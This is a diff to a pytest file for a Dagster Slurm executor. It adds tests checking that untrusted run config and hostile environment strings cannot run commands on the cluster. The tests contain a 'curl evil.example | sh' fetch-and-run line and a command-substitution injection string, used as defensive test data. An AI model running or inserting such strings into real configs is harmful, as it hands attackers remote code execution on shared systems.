@@ -82,7 +82,8 @@ def test_a_failing_op_shows_the_users_exception(code_dir: Path, instance: Dagste
     assert not result.success
     failure = events_of(instance, result.run_id, DagsterEventType.STEP_FAILURE)[0].dagster_event
     error = failure.step_failure_data.error
-    assert "the user's own error message" in error.cause.message if error.cause else error.message
+    message = error.cause.message if error.cause else error.message
+    assert "the user's own error message" in message
     assert "ops.py" in "".join((error.cause or error).stack)
 
 
@@ -131,7 +132,10 @@ def test_op_tags_reach_sbatch(code_dir: Path, instance: DagsterInstance) -> None
     assert "SLURM_CPUS_PER_TASK=2" in messages(instance, result.run_id)
 
 
-def test_a_missing_python_on_the_cluster_fails_with_its_stderr(code_dir: Path, instance: DagsterInstance) -> None:
+def test_a_missing_python_on_the_cluster_fails_with_its_stderr(
+    code_dir: Path, instance: DagsterInstance, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("DAGSTER_SLURM_TRUST_RUN_CONFIG", "true")
     config = {"execution": {"config": {"python": "/nowhere/bin/python3", "poll_interval": 1.0}}}
     result = run(code_dir, "ops.py", "configurable_job", instance, run_config=config, raise_on_error=False)
     assert not result.success
@@ -143,6 +147,7 @@ def test_a_missing_python_on_the_cluster_fails_with_its_stderr(code_dir: Path, i
 def test_hostile_strings_in_config_and_env_values_never_change_the_command(
     code_dir: Path, instance: DagsterInstance, monkeypatch: pytest.MonkeyPatch
 ) -> None:
+    monkeypatch.setenv("DAGSTER_SLURM_TRUST_RUN_CONFIG", "true")
     canary = lab.shared_dir() / "io" / f"pwned-{uuid.uuid4().hex[:8]}"
     hostile = f"it's `touch {canary}` $(touch {canary}); touch {canary} \"q\" \\ ü"
     monkeypatch.setenv("HOSTILE_ENV", hostile)
@@ -169,6 +174,28 @@ def test_a_bad_sbatch_tag_is_refused_before_anything_is_submitted(code_dir: Path
     assert lab.slurm_jobs_of_run(result.run_id) == []
     failure = events_of(instance, result.run_id, DagsterEventType.RUN_FAILURE)[0]
     assert "'output' is set by the executor" in str(failure.dagster_event.event_specific_data.error)
+
+
+def test_an_abbreviated_option_the_executor_owns_is_refused(code_dir: Path, instance: DagsterInstance) -> None:
+    # sbatch reads `--job-n=x` as --job-name=x: the step's job could not be found again.
+    config = {"execution": {"config": {"sbatch_options": {"job_n": "renamed"}}}}
+    result = run(code_dir, "ops.py", "configurable_job", instance, run_config=config, raise_on_error=False)
+    assert not result.success
+    assert lab.slurm_jobs_of_run(result.run_id) == []
+    failure = events_of(instance, result.run_id, DagsterEventType.RUN_FAILURE)[0]
+    assert "'job_n' (sbatch reads it as --job-name) is set by the executor" in str(failure.dagster_event.event_specific_data.error)
+
+
+def test_run_config_that_would_run_commands_on_the_cluster_is_refused_unless_trusted(
+    code_dir: Path, instance: DagsterInstance
+) -> None:
+    # Anyone who may launch a run must not get a shell on the cluster through its run config.
+    config = {"execution": {"config": {"setup": ["curl evil.example | sh"], "python": "/bin/sh"}}}
+    result = run(code_dir, "ops.py", "configurable_job", instance, run_config=config, raise_on_error=False)
+    assert not result.success
+    assert lab.slurm_jobs_of_run(result.run_id) == []
+    error = str(events_of(instance, result.run_id, DagsterEventType.RUN_FAILURE)[0].dagster_event.event_specific_data.error)
+    assert "sets executor config 'setup', 'python'" in error and "DAGSTER_SLURM_TRUST_RUN_CONFIG=true" in error
 
 
 def test_an_unknown_executor_config_key_is_a_dagster_config_error(code_dir: Path, instance: DagsterInstance) -> None:
@@ -203,7 +230,7 @@ def test_terminating_a_running_run_cancels_its_slurm_jobs(code_dir: Path, instan
         # canceling, then interrupt its run worker.
         instance.report_run_canceling(run)
         worker.send_signal(signal.SIGINT)
-        assert worker.wait(timeout=120) is not None
+        worker.wait(timeout=120)  # raises TimeoutExpired if the worker does not stop
     finally:
         worker.kill()
     assert instance.get_run_by_id(run.run_id).status == DagsterRunStatus.CANCELED
